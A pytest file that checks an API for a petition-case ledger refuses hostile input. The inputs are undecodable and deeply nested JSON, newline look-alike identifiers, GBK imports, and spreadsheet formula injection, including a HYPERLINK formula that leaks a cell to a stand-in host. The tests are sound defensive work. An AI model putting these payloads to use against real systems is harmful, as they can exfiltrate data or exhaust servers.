"""Hostile requests over HTTP: undecodable bodies, look-alike identifiers in paths and queries,
imports in the encodings Chinese Windows writes, and spreadsheet formulas hidden in text.

Every refusal is a 400 problem with a stable code, and the ledger is unchanged after it.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
from typing import Any

import pytest
from api_world import World
from openpyxl import load_workbook

from support.county import START

NOW = "2021-03-05T09:00:00+08:00"
LEAD = {"type": "AssignLeader", "command_id": "lead-1", "occurred_at": NOW, "case": "A-1", "leader": "leader-1"}


def problem(response: Any, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    assert body["code"] == code and body["detail"], body
    return body


@pytest.mark.parametrize(("body", "code", "words"), [
    pytest.param(b'{"type":"RecordInvestigation","command_id":"\xff\xfe"}', "invalid_encoding", "UTF-8", id="not-utf8"),
    pytest.param(json.dumps({**LEAD, "note": "领导包案化解"}, ensure_ascii=False).encode("gbk"), "invalid_encoding", "GBK",
                 id="gbk"),
    pytest.param(b"[" * 100_000 + b"]" * 100_000, "malformed_json", "嵌套过深", id="nested-arrays"),
    pytest.param(b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "malformed_json", "嵌套过深", id="nested-objects"),
])
def test_an_undecodable_command_body_is_a_400_not_a_500(world: World, body: bytes, code: str, words: str) -> None:
    before = world.size()
    for path in ("/api/commands", "/api/cases/A-1/commands"):
        refused = problem(world.post(path, body, "admin"), 400, code)
        assert words in refused["detail"]
    assert world.size() == before


@pytest.mark.parametrize(("body", "code"), [
    pytest.param(b'{"body":{"basis":"\xff"}}', "bad_json", id="not-utf8"),
    pytest.param(b'{"a":' * 100_000, "bad_json", id="nested"),
])
def test_an_undecodable_appraisal_to_check_is_a_400(world: World, body: bytes, code: str) -> None:
    before = world.size()
    problem(world.post("/api/appraisals/check", body, "appraiser"), 400, code)
    assert world.size() == before


@pytest.mark.parametrize("path", [
    "/api/cases/A-1%0A", "/api/cases/A-1%0A/timeline", "/api/cases/A-1%0A/proof", "/api/cases?unit=town-a%0A",
    "/api/cases?unit=town%01a", "/api/overdue?unit=town-a%0A", "/api/units/town-a%0A", "/api/officials?unit=town-a%0A",
    "/api/officials/head-a%0A", "/api/cases/A-1/petitioners/P-A%0A?purpose=核实", "/api/reports/board?unit=town-a%0A",
])
def test_look_alike_identifiers_in_paths_and_queries_are_refused(world: World, path: str) -> None:
    refused = problem(world.get(path, "clerk"), 400, "invalid_request")
    assert "换行" in refused["detail"]


def test_a_command_posted_to_a_look_alike_case_address_writes_nothing(world: World) -> None:
    before = world.size()
    problem(world.post("/api/cases/A-1%0A/commands", {**LEAD, "case": "A-1\n"}, "admin"), 400, "invalid_request")
    problem(world.post("/api/cases", {"type": "RegisterPetition", "command_id": "r-9", "occurred_at": NOW,
                                      "channel": "来访", "subject": "补偿", "home_township": "town-a",
                                      "number": "A-1\n"}, "clerk"), 400, "invalid_request")
    assert world.size() == before


def test_an_erasure_reason_with_control_characters_is_refused(world: World) -> None:
    before = world.size()
    refused = world.client.delete("/api/petitioners/P-A", params={"reason": "依法\u0001删除"},
                                  headers=world.headers("admin"))
    problem(refused, 400, "invalid_request")
    assert world.size() == before


def test_an_import_in_windows_encodings_reports_per_line_and_writes_the_good_lines(world: World) -> None:
    before = world.size()
    good = [{**LEAD, "command_id": f"imp-{i}"} for i in range(3)]
    data = b"\r\n".join([
        codecs.BOM_UTF8 + json.dumps(good[0], ensure_ascii=False).encode(),
        json.dumps({**good[1], "note": "领导包案化解"}, ensure_ascii=False).encode("gbk"),
        b'{"type":"\xff"}',
        b'{"a":' * 100_000,
        json.dumps(good[2], ensure_ascii=False).encode(),
    ])
    response = world.client.post("/api/imports", content=data,
                                 headers={"Content-Type": "application/x-ndjson", **world.headers("admin")})
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["applied"], report["repeated"]) == (2, 0)
    assert [(r["line"], r["code"]) for r in report["refused"]] == [
        (2, "invalid_encoding"), (3, "invalid_encoding"), (4, "malformed_json")]
    assert "GBK" in report["refused"][0]["message"]
    assert world.size() == before + 2


def test_a_utf16_import_is_refused_whole(world: World) -> None:
    before = world.size()
    data = json.dumps(LEAD, ensure_ascii=False).encode("utf-16")
    response = world.client.post("/api/imports", content=data,
                                 headers={"Content-Type": "application/x-ndjson", **world.headers("clerk")})
    assert "UTF-16" in problem(response, 400, "invalid_encoding")["detail"]
    assert world.size() == before


# ── 5. Formulas in text stay text ────────────────────────────────────────────

FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def register(world: World, number: str, subject: str) -> None:
    body = {"type": "RegisterPetition", "command_id": f"reg-{number}", "occurred_at": START.isoformat(),
            "channel": "来访", "subject": subject, "summary": subject, "home_township": "town-a", "number": number}
    response = world.post("/api/cases", body, "clerk")
    assert response.status_code == 201, response.text


def test_formulas_in_subjects_are_inert_text_in_csv_and_xlsx(world: World) -> None:
    subjects = {f"F-{i}": s for i, s in enumerate(FORMULAS)}
    for number, subject in subjects.items():
        register(world, number, subject)
    board = world.get("/api/reports/board?format=csv", "admin")
    assert board.status_code == 200, board.text
    rows = list(csv.reader(io.StringIO(board.content.decode("utf-8-sig"))))
    found = {row[0]: row[3] for row in rows if row and row[0] in subjects}
    for number, subject in subjects.items():
        assert found[number] == "'" + subject, found[number]
    assert f'"\'{FORMULAS[0].replace(chr(34), chr(34) * 2)}"' in board.content.decode("utf-8-sig")  # quoted cell

    book = load_workbook(io.BytesIO(world.get("/api/reports/board?format=xlsx", "admin").content))
    sheet = book[book.sheetnames[1]]
    cells = {row[0].value: row[3] for row in sheet.iter_rows(min_row=2)}
    for number in subjects:
        assert cells[number].data_type == "s" and cells[number].value.startswith("'"), cells[number].value
    handoffs = [row[10] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in handoffs)  # numbers stay numbers


def test_a_unit_name_written_as_a_formula_is_inert_in_the_awards_files(world: World) -> None:
    body = {"type": "RegisterUnit", "command_id": "u-evil", "occurred_at": START.isoformat(), "code": "town-x",
            "name": FORMULAS[0], "kind": "乡镇", "parent": "county", "township_class": "一类"}
    assert world.post("/api/commands", body, "admin").status_code == 201
    text = world.get("/api/reports/awards?period=2021&format=csv", "admin").content.decode("utf-8-sig")
    names = [row[2] for row in csv.reader(io.StringIO(text)) if len(row) > 2 and row[1] == "town-x"]
    assert names and all(name == "'" + FORMULAS[0] for name in names)
    book = load_workbook(io.BytesIO(world.get("/api/reports/awards?period=2021&format=xlsx", "admin").content))
    cells = [row[2] for row in book.active.iter_rows(min_row=2) if row[1].value == "town-x"]
    assert cells and all(c.data_type == "s" and c.value == "'" + FORMULAS[0] for c in cells)
    amounts = [row[6] for row in book.active.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in amounts)
